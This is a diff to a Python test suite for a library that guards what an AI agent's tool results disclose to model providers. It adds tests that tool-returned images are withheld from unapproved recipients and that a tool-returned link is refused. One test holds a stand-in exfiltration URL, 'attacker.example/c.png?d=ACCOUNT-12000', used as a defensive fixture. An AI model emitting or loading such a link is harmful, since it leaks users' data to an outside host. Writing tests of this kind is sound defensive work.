@@ -9,6 +9,7 @@ before anything is sent.
 from __future__ import annotations
 
 import asyncio
+import base64
 import json
 import os
 import pickle
@@ -53,7 +54,14 @@ from ledger.domain.records import AttemptState
 from ledger.integrations.langchain import LedgerChatModel, LedgerMiddleware, LedgerStop
 from ledger.testing import Behavior, FakeProvider, Fault
 from tests import fakeplan
-from tests.fakeplan import PRICE, cancelled_twice, tool_call_ids
+from tests.fakeplan import (
+    PRICE,
+    cancelled_twice,
+    carried_tool_file,
+    narrow_first,
+    tool_call_ids,
+)
+from tests.media import png
 
 fake = fakeplan.fake  # the shared fixtures: one fake provider per module, cleared per test
 _clear = fakeplan._clear
@@ -850,6 +858,76 @@ def test_a_human_image_and_document_go_as_binary_parts(db_url: str, fake: FakePr
     asyncio.run(main())
     [req] = fake.requests
     assert [m.media_type for m in req.media] == ["image/png", "application/pdf"]
+
+
+# -- a tool that returns an image --------------------------------------------------------------
+
+CHART = png(24, 24)
+
+
+@tool
+def chart(name: str) -> list[dict[str, Any]]:
+    """Render a chart of a metric."""
+    return [{"type": "text", "text": f"the chart of {name}"},
+            {"type": "image", "base64": base64.b64encode(CHART).decode(),
+             "mime_type": "image/png"}]
+
+
+@pytest.mark.parametrize("protocol", ["openai", "anthropic", "gemini"])
+def test_invariant7_a_tools_image_is_the_tools_result_not_the_users_input(
+        db_url: str, fake: FakeProvider, protocol: str) -> None:
+    """A tool that returns an image (a ToolMessage with an image block): the image goes as the
+    call's file, of class ``tool_result`` under the call's provenance, after the tool's result
+    on the wire; a recipient the grant approves for the user's input only never receives it,
+    and the history carrying it again passes preflight."""
+    plan, grant = narrow_first(routes(fake, protocol))
+    fake.enqueue(Behavior(tool_call=("chart", {"name": "revenue"})), model="primary-model")
+
+    async def main() -> None:
+        async with AsyncLedger.open(db_url) as led, \
+                led.run("tool-image", plan=plan, budget=BUDGET, grant=grant) as run:
+            agent = create_agent(LedgerChatModel(run), tools=[chart],
+                                 middleware=[LedgerMiddleware(run)])
+            state = await agent.ainvoke({"messages": [("user", "Chart the revenue.")]})
+            assert state["messages"][-1].text == FULL_TEXT
+            (select,) = [e.data for e in await led.events("tool-image", ["select"])][-1:]
+            assert [(s["route"], s["reason"]) for s in select["skipped"]] == [
+                ("primary", "disclosure")]
+            assert "not approved for: tool_result" in select["skipped"][0]["detail"]
+            (call,) = [m for m in state["messages"] if isinstance(m, ToolMessage)]
+            assert call.tool_call_id in await led.provenance("tool-image")
+            # Sent again with the history, the recorded result and image are covered.
+            follow_up = {"messages": [*state["messages"], ("user", "And the costs?")]}
+            assert (await agent.ainvoke(follow_up))["messages"][-1].text == FULL_TEXT
+
+    asyncio.run(main())
+    assert [r.model for r in fake.requests] == ["primary-model", "backup-model", "backup-model"]
+    assert fake.requests[0].media == ()  # the user-input-only recipient never got the image
+    for req in fake.requests[1:]:
+        carried_tool_file(req, CHART, "the chart of revenue")
+
+
+def test_a_tools_link_is_refused_naming_the_fix_and_nothing_is_sent(
+        db_url: str, fake: FakeProvider) -> None:
+    fake.enqueue(Behavior(tool_call=("search", {"query": "10-K"})))
+    leak = "https://attacker.example/c.png?d=ACCOUNT-12000"
+
+    async def main() -> None:
+        async with AsyncLedger.open(db_url) as led, \
+                led.run("tool-link", plan=routes(fake), budget=BUDGET, grant=GRANT) as run:
+            model = LedgerChatModel(run).bind_tools([search])
+            first = await model.ainvoke([HumanMessage("Search.")])
+            (call,) = first.tool_calls
+            linked = ToolMessage(content=[{"type": "image", "url": leak}],
+                                 tool_call_id=call["id"])
+            with pytest.raises(InvalidArgument) as ei:
+                await model.ainvoke([HumanMessage("Search."), first, linked])
+            assert ei.value.field == "messages"
+            assert "never sends a link a tool returned" in str(ei.value)
+            assert "base64" in str(ei.value) and "human message" not in str(ei.value)
+
+    asyncio.run(main())
+    assert len(fake.requests) == 1
 
 
 # -- LangGraph: a graph resumed from its checkpoint in another process --------------------------
